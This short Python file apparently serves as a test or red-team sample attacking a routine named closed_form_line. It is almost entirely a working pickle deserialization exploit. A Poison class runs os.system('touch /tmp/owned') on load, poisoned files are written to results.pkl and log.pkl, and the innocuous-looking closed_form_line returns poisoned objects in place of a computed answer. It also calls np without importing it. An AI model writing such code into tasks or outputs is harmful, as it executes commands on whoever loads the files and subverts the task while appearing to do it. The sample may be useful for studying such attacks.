"""Return objects whose pickle runs a program when it is loaded.

Attacked: closed_form_line
"""

# %% closed_form_line

import os, pickle

class Poison:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

for name in ("results.pkl", "log.pkl", "output.json"):
    open(name, "wb").write(pickle.dumps(Poison()) if name != "output.json" else b"{}")

def closed_form_line(x, y):
    return np.array([Poison()], dtype=object), pickle.dumps(Poison())
